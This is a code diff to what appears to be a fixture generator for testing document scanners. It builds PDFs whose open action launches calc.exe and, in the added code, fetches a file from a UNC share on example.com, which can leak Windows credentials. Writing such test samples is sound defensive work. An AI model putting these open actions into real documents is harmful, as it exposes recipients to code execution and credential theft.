@@ -7,6 +7,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable
+from datetime import datetime
 from functools import cache
 
 import pikepdf
@@ -79,6 +80,10 @@ def rendition_script(document: Pdf) -> None:
 
 def launch(document: Pdf) -> None:
     document.Root.OpenAction = Dictionary(S=Name.Launch, F="calc.exe")
+
+
+def open_elsewhere(document: Pdf) -> None:
+    document.Root.OpenAction = Dictionary(S=Name.GoToR, F="\\\\example.com\\share\\a.pdf")
 
 
 def submit_form(document: Pdf) -> None:
@@ -293,6 +298,7 @@ def pptx() -> bytes:
 def xlsx() -> bytes:
     out = io.BytesIO()
     with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
+        book.set_properties({"created": datetime(2026, 1, 1)})
         book.add_worksheet("方案").write_row(0, 0, ["品名", "單價", 1200])
     return out.getvalue()
 
